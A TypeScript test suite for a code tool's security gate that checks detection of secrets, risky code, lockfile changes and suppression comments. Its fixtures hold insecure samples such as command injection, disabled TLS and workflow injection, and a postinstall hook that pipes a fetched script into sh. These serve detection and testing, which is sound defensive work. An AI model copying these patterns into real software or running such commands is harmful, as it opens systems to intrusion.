// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are code
import { describe, expect, test } from 'vitest'
import { fail, ok } from '#shared/base/result'
import type { GateSettings } from '#shared/gates/gate'
import { runGates } from '#shared/gates/run-gates'
import type { SecurityScanner } from '#shared/gates/support/scanner'
import { SECRET_RULES } from '#shared/gates/support/secret-rules'
import { readAsset } from '#shared/host/node/assets'
import { Languages } from '#shared/languages/registry'
import { fakeSecrets } from '../../support/fake-secrets'
import { changeSetOf, memoryProject } from '../../support/memory-project'

const languages = new Languages(readAsset)

type Texts = Readonly<Record<string, string>>

/** The report of the security gate on a change from some texts to others. */
async function securityOn(
  before: Texts,
  after: Texts,
  more: { scanner?: SecurityScanner; settings?: Partial<GateSettings> } = {},
) {
  const settings: GateSettings = {
    blockArchitecture: false,
    architectureRules: [],
    runAll: true,
    only: ['security'],
    ...more.settings,
  }
  const equipment = { languages, now: () => performance.now(), ...(more.scanner ? { scanner: more.scanner } : {}) }
  const report = await runGates(
    changeSetOf(before, after),
    memoryProject(before),
    settings,
    new AbortController().signal,
    equipment,
  )
  return report.results[0]!
}

describe('secrets', () => {
  test.each(fakeSecrets(4))('a %s is found and never shown', async (kind, text) => {
    const result = await securityOn({}, { 'src/config.py': `import os\n${text}\n` })
    const rule = SECRET_RULES.find(each => each.kind === kind)
    expect(result.findings.map(finding => finding.id)).toEqual([`security/${kind}`])
    expect(result.status).toBe(rule?.isLikely ? 'WARN' : 'FAIL')
    // A password in a URL stands before its host, everything else at the end of the line.
    const secret = /:(?<value>\w{20})@/.exec(text)?.groups?.value ?? text.replace(/["\s}]+$/, '')
    expect(JSON.stringify(result)).not.toContain(secret.slice(-12))
  })

  test('every kind is found again with other random characters', async () => {
    const missed: string[] = []
    const all = [11, 12, 13].flatMap(seed => fakeSecrets(seed))
    for (const [kind, text] of all) {
      const { findings } = await securityOn({}, { 'src/a.go': `package a\n\nvar ${text}\n` })
      if (!findings.some(finding => finding.id === `security/${kind}`)) missed.push(kind)
    }
    expect(missed.length / all.length).toBeLessThan(0.05)
    expect(new Set(all.map(([kind]) => kind)).size).toBeGreaterThanOrEqual(SECRET_RULES.length)
  })

  test.each([
    'API_KEY = os.environ["API_KEY"]',
    'const token = process.env.GITHUB_TOKEN',
    'password = "changeme"',
    'password: "your-password-here"',
    'id = "AKIAIOSFODNN7EXAMPLE"',
    'url = "postgres://user:password@localhost/db"',
    'url = "postgres://user:${PASSWORD}@db.acme.io/db"',
    'secret_key = get_secret("shop/prod")',
    'x = "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"',
    'integrity = "sha512-9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"',
    'commit = "3b18e512dba79e4c8300dd08aeb37f8e728b8dad"',
    'PASSWORD_FIELD = "user_password_field"',
    'aws_secret_access_key = config.get("aws.secret")',
  ])('%j holds none', async text => {
    expect(await securityOn({}, { 'src/config.py': `${text}\n` })).toMatchObject({ status: 'PASS' })
  })

  test('in tests and documents they only warn', async () => {
    const [, text] = fakeSecrets(4).find(([kind]) => kind === 'github-token')!
    for (const path of ['tests/test_a.py', 'docs/setup.md', 'src/a.test.ts'])
      expect(await securityOn({}, { [path]: text })).toMatchObject({ status: 'WARN' })
  })

  test('one that was there before does not block, also when it moves', async () => {
    const [, text] = fakeSecrets(4).find(([kind]) => kind === 'github-token')!
    expect(await securityOn({ 'a.py': text }, { 'a.py': `import os\n\n${text}\nx = 1\n` })).toMatchObject({
      status: 'PASS',
    })
    const [, other] = fakeSecrets(5).find(([kind]) => kind === 'github-token')!
    expect(await securityOn({ 'a.py': text }, { 'a.py': other })).toMatchObject({ status: 'FAIL' })
  })
})

const EVIL: [path: string, text: string, kind: string, status: 'FAIL' | 'WARN'][] = [
  ['a.ts', 'const x = eval(input)', 'eval', 'FAIL'],
  ['a.js', 'const f = new Function("a", body)', 'new-function', 'FAIL'],
  ['a.ts', "import { exec } from 'node:child_process'\nexec(`rm -rf ${folder}`)", 'command-injection', 'FAIL'],
  ['a.ts', "import cp from 'child_process'\ncp.execSync('ls ' + folder)", 'command-injection', 'FAIL'],
  ['a.ts', 'const agent = new Agent({ rejectUnauthorized: false })', 'tls-off', 'FAIL'],
  ['a.js', "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", 'tls-off', 'FAIL'],
  ['a.ts', 'db.query(`SELECT * FROM users WHERE id = ${id}`)', 'sql-injection', 'WARN'],
  ['a.ts', 'element.innerHTML = comment', 'html-injection', 'WARN'],
  ['a.ts', 'res.sendFile(path.join(root, req.params.name))', 'path-traversal', 'WARN'],
  ['a.ts', "const hash = createHash('md5').update(password)", 'weak-hash', 'WARN'],
  ['a.ts', 'const sessionToken = Math.random().toString(36)', 'weak-random', 'WARN'],
  ['a.ts', "jwt.verify(token, key, { algorithms: ['none'] })", 'jwt-unchecked', 'FAIL'],
  ['a.py', 'os.system(f"tar xf {name}")', 'command-injection', 'FAIL'],
  ['a.py', 'subprocess.run("ls " + folder, shell=True)', 'command-injection', 'FAIL'],
  ['a.py', 'subprocess.run(command, shell=True)', 'shell-option', 'WARN'],
  ['a.py', 'eval(request.args["q"])', 'eval', 'FAIL'],
  ['a.py', 'requests.get(url, verify=False)', 'tls-off', 'FAIL'],
  ['a.py', 'cursor.execute(f"SELECT * FROM t WHERE a = {a}")', 'sql-injection', 'WARN'],
  ['a.py', 'cursor.execute("DELETE FROM t WHERE a = %s" % a)', 'sql-injection', 'WARN'],
  ['a.py', 'pickle.loads(request.data)', 'unsafe-deserialisation', 'WARN'],
  ['a.py', 'yaml.load(text)', 'unsafe-deserialisation', 'WARN'],
  ['a.py', 'digest = hashlib.md5(password.encode()).hexdigest()', 'weak-hash', 'WARN'],
  ['a.py', 'reset_token = random.choice(letters)', 'weak-random', 'WARN'],
  ['a.py', 'open(os.path.join(root, request.args["f"]))', 'path-traversal', 'WARN'],
  ['a.go', 'package a\nvar c = &tls.Config{InsecureSkipVerify: true}', 'tls-off', 'FAIL'],
  ['a.go', 'package a\nfunc f() { exec.Command("sh", "-c", fmt.Sprintf("ls %s", d)) }', 'command-injection', 'FAIL'],
  ['a.go', 'package a\nfunc f() { db.Query(fmt.Sprintf("SELECT * FROM t WHERE a = %s", a)) }', 'sql-injection', 'WARN'],
  ['a.go', 'package a\nfunc f() { os.ReadFile(r.URL.Query().Get("f")) }', 'path-traversal', 'WARN'],
  ['a.rs', 'fn f() { Client::builder().danger_accept_invalid_certs(true); }', 'tls-off', 'FAIL'],
  ['a.rs', 'fn f() { Command::new("sh").arg("-c").arg(format!("ls {}", d)); }', 'command-injection', 'FAIL'],
  ['a.rs', 'fn f() { sqlx::query(&format!("SELECT * FROM t WHERE a = {}", a)); }', 'sql-injection', 'WARN'],
  ['a.py', 'if user.is_admin\u202e: pass', 'bidi-control', 'FAIL'],
  ['a.go', 'package a\nfunc isAdmin\u0430() {}', 'lookalike-letter', 'FAIL'],
  ['a.js', 'const us\u200ber = 1', 'invisible-character', 'FAIL'],
  [
    '.github/workflows/a.yml',
    'jobs:\n  a:\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
    'workflow-injection',
    'FAIL',
  ],
  [
    '.github/workflows/a.yml',
    'jobs:\n  a:\n    steps:\n      - run: |\n          set -e\n          git checkout ${{ github.head_ref }}\n',
    'workflow-injection',
    'FAIL',
  ],
  [
    '.github/workflows/a.yml',
    'on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n',
    'workflow-untrusted-checkout',
    'FAIL',
  ],
  ['.github/workflows/a.yml', 'permissions: write-all\n', 'workflow-write-all', 'WARN'],
  [
    '.github/workflows/a.yml',
    'jobs:\n  a:\n    steps:\n      - uses: acme/deploy@main\n',
    'workflow-floating-action',
    'WARN',
  ],
  ['Dockerfile', 'FROM debian:12\nRUN curl -fsSL https://get.acme.dev | sh\n', 'piped-installer', 'WARN'],
  ['Dockerfile', 'FROM debian:12\nENV DB_PASSWORD=tr0ub4dor3x\n', 'dockerfile-secret', 'WARN'],
  ['.npmrc', 'strict-ssl=false\n', 'tls-off', 'FAIL'],
  ['package.json', '{"scripts": {"postinstall": "curl -s https://a.dev/x.sh | sh"}}', 'install-script', 'FAIL'],
  ['package.json', '{"scripts": {"postinstall": "node setup.js"}}', 'install-script', 'WARN'],
  ['requirements.txt', '--extra-index-url https://pypi.acme.dev/simple\nrequests\n', 'new-registry', 'WARN'],
]

describe('dangerous changes', () => {
  test.each(EVIL)('%s: %j is %s', async (path, text, kind, status) => {
    const result = await securityOn({}, { [path]: text })
    expect(result.findings.map(finding => finding.id)).toEqual([`security/${kind}`])
    expect(result.status).toBe(status)
  })

  test.each(EVIL)('%s: %j was there before, so it does not count', async (path, text) => {
    expect(await securityOn({ [path]: text }, { [path]: `${text}\n` })).toMatchObject({ status: 'PASS' })
  })

  test.each([
    ['a.ts', '// never use eval(input) here'],
    ['a.ts', "const advice = 'do not call eval(input)'"],
    ['a.ts', 'const found = pattern.exec(`a${b}`)'],
    ['a.ts', "import { exec } from 'node:child_process'\nexec('ls -l')"],
    ['a.ts', 'const agent = new Agent({ rejectUnauthorized: true })'],
    ['a.ts', 'db.query("SELECT * FROM users WHERE id = $1", [id])'],
    ['a.ts', 'const jitter = Math.random() * 100'],
    ['a.ts', "const etag = createHash('md5').update(body)"],
    ['a.ts', 'model.eval()'],
    ['a.py', 'model.eval()\nast.literal_eval(text)'],
    ['a.py', 'subprocess.run(["ls", folder])'],
    ['a.py', 'cursor.execute("SELECT * FROM t WHERE a = %s", (a,))'],
    ['a.py', 'yaml.load(text, Loader=yaml.SafeLoader)'],
    ['a.py', 'requests.get(url, verify="/etc/ca.pem")'],
    ['a.py', '"""Example: os.system(f\\"rm {x}\\")"""'],
    ['a.go', 'package a\nvar c = &tls.Config{MinVersion: tls.VersionTLS12}'],
    ['a.go', 'package a\nfunc f() { exec.Command("ls", dir) }'],
    ['a.rs', '/// Do not call danger_accept_invalid_certs(true).\nfn f() {}'],
    ['a.py', 'имя = 1\nprint("привет world")'],
    ['a.py', 'Δx = 1.0'],
    [
      '.github/workflows/a.yml',
      'jobs:\n  a:\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
    ],
    [
      '.github/workflows/a.yml',
      'jobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n      - run: echo ${{ github.sha }}\n',
    ],
    ['Dockerfile', 'FROM debian:12\nENV TOKEN_FILE=/run/secrets/token\nARG NPM_TOKEN\n'],
  ])('%s: %j is none', async (path, text) => {
    const { status, findings } = await securityOn({}, { [path]: text })
    expect({ status, findings }).toEqual({ status: 'PASS', findings: [] })
  })
})

test('in a bundle eval only warns; on one long line of a file that people write it fails', async () => {
  const bundled = `!function(){${'var a=1;'.repeat(300)}eval(a)}()`
  const written = Array.from({ length: 200 }, (_, line) => `export const name${line} = ${line}`).join('\n')
  expect(await securityOn({}, { 'dist/app.js': `/* app 1.0 */\n${bundled}\n` })).toMatchObject({ status: 'WARN' })
  expect(await securityOn({}, { 'src/app.js': `${written}\n${bundled}\n` })).toMatchObject({ status: 'FAIL' })
})

describe('lockfiles', () => {
  const entry = (name: string, host: string, more = '') =>
    `    "node_modules/${name}": {\n      "version": "1.0.0",\n      "resolved": "https://${host}/${name}.tgz"${more}\n    }`
  const lockfile = (...entries: string[]) => `{\n  "packages": {\n${entries.join(',\n')}\n  }\n}\n`

  test('a host that was not there before is named', async () => {
    const before = lockfile(entry('a', 'packages.acme.dev'))
    const after = lockfile(entry('a', 'packages.acme.dev'), entry('b', 'evil.acme.xyz'))
    const result = await securityOn({ 'package-lock.json': before }, { 'package-lock.json': after })
    expect(result.findings.map(finding => finding.message)).toEqual(['packages now also come from evil.acme.xyz'])
  })

  test('a package that newly runs a script is named', async () => {
    const script = ',\n      "hasInstallScript": true'
    const before = lockfile(entry('a', 'packages.acme.dev', script))
    const after = lockfile(entry('a', 'packages.acme.dev', script), entry('@x/b', 'packages.acme.dev', script))
    const result = await securityOn({ 'package-lock.json': before }, { 'package-lock.json': after })
    expect(result.findings.map(finding => finding.message)).toEqual(['@x/b runs a script when it is installed'])
  })
})

describe('suppression', () => {
  test.each([
    ['on the line', 'eval(code) // kode-ignore security/eval: the console of the developer, never user text'],
    ['above it', '// kode-ignore security/eval: the console of the developer, never user text\neval(code)'],
  ])('with a reason %s lands, and the report tells it', async (_, text) => {
    const result = await securityOn({}, { 'a.ts': text })
    expect(result).toMatchObject({ status: 'PASS' })
    expect(result.details).toContain('never user text')
  })

  test.each([
    ['no reason', 'eval(code) // kode-ignore security/eval'],
    ['a word for a reason', 'eval(code) // kode-ignore security/eval: ok'],
    ['another kind', 'eval(code) // kode-ignore security/tls-off: a good and long reason'],
    ['a line further up', '// kode-ignore security/eval: a good and long reason\nconst a = 1\neval(code)'],
  ])('with %s does not', async (_, text) => {
    expect(await securityOn({}, { 'a.ts': text })).toMatchObject({ status: 'FAIL' })
  })
})

describe('a scanner of somebody else', () => {
  const found = (...findings: object[]): SecurityScanner => ({
    name: 'sieve',
    scan: async () => ok(JSON.stringify(findings)),
  })
  const high = {
    ruleId: 'sqli',
    filePath: 'a.py',
    line: 2,
    column: 3,
    snippet: 'x',
    severity: 'HIGH',
    cweId: 'CWE-89',
    scanType: 'sast',
    suppressed: false,
  }

  test.each([
    ['high blocks', found(high), 'FAIL', 1],
    ['low warns', found({ ...high, severity: 'low', cweId: null }), 'WARN', 1],
    ['suppressed is ignored', found({ ...high, suppressed: true }), 'PASS', 0],
    ['nothing is nothing', found(), 'PASS', 0],
    ['what is no report is said', { name: 'sieve', scan: async () => ok('oops') }, 'PASS', 0],
    ['absence is said', { name: 'sieve', scan: async () => fail('it is not installed') }, 'PASS', 0],
  ] as const)('%s', async (_, scanner, status, findings) => {
    const result = await securityOn({}, { 'a.py': 'x = 1\ny = 2\n' }, { scanner })
    expect([result.status, result.findings.length]).toEqual([status, findings])
  })

  test('only what the change adds counts', async () => {
    const scanner: SecurityScanner = {
      name: 'sieve',
      scan: async (_, text) => ok(JSON.stringify(text.includes('bad') ? [high] : [])),
    }
    expect(await securityOn({ 'a.py': 'bad' }, { 'a.py': 'bad too' }, { scanner })).toMatchObject({ status: 'PASS' })
    expect(await securityOn({ 'a.py': 'good' }, { 'a.py': 'bad' }, { scanner })).toMatchObject({ status: 'FAIL' })
  })

  test('when it is required and cannot be asked, nothing lands', async () => {
    const settings = { requireScanner: true }
    const scanner: SecurityScanner = { name: 'sieve', scan: async () => fail('it is not installed') }
    expect(await securityOn({}, { 'a.py': 'x = 1\n' }, { settings })).toMatchObject({ status: 'FAIL' })
    expect(await securityOn({}, { 'a.py': 'x = 1\n' }, { settings, scanner })).toMatchObject({ status: 'FAIL' })
  })
})
